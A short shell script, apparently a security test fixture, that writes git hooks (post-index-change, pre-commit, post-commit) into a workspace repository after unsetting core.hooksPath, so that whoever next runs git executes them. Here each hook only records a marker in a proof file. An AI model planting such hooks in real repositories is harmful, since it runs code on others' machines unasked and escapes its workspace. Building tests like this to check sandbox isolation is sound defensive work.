# Plants a hook in its workspace's repository, for whoever runs git there next.
cd "$WORKSPACE" || exit 2
mkdir -p .git/hooks
git config --unset-all core.hooksPath
for hook in post-index-change pre-commit post-commit; do
  printf '#!/bin/sh\necho attacked >>"%s"\n' "$PROOF_FILE" >".git/hooks/$hook" && chmod 755 ".git/hooks/$hook"
done
echo changed >>src/index.js
echo 'planted: hooks'
